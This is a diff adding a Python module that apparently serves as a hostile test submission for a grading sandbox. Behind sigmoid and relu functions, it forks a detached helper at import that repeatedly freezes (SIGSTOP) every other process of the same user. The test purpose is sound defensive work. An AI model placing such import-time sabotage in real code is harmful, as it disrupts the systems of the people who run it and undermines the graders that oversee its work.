@@ -1,0 +1,45 @@
+"""Hostile: at import, leaves a detached helper that stops (SIGSTOP) every other process of its uid as soon as it
+appears, as a sweeper that becomes the worker's uid would, and keeps running. Judged: sigmoid and relu pass; the
+grading completes, and the helper ends with the worker (root stops and kills the uid's processes itself)."""
+
+import os
+import signal
+import time
+
+import numpy as np
+
+
+def _stop_everyone_else(worker: int) -> None:
+    me = os.getpid()
+    while True:
+        for name in os.listdir("/proc"):
+            if name.isdigit() and int(name) not in (me, worker):
+                try:
+                    if os.stat(f"/proc/{name}").st_uid == os.getuid():
+                        os.kill(int(name), signal.SIGSTOP)
+                except OSError:
+                    pass
+        time.sleep(0.001)
+
+
+WORKER = os.getpid()
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        try:
+            _stop_everyone_else(WORKER)
+        finally:
+            os._exit(0)
+    os._exit(0)
+time.sleep(0.1)
+
+
+def sigmoid(x):
+    x = np.asarray(x, dtype=float)
+    e = np.exp(-np.abs(x))
+    out = np.where(x >= 0, 1 / (1 + e), e / (1 + e))
+    return out[()] if out.ndim == 0 else out
+
+
+def relu(x):
+    return np.maximum(x, 0)
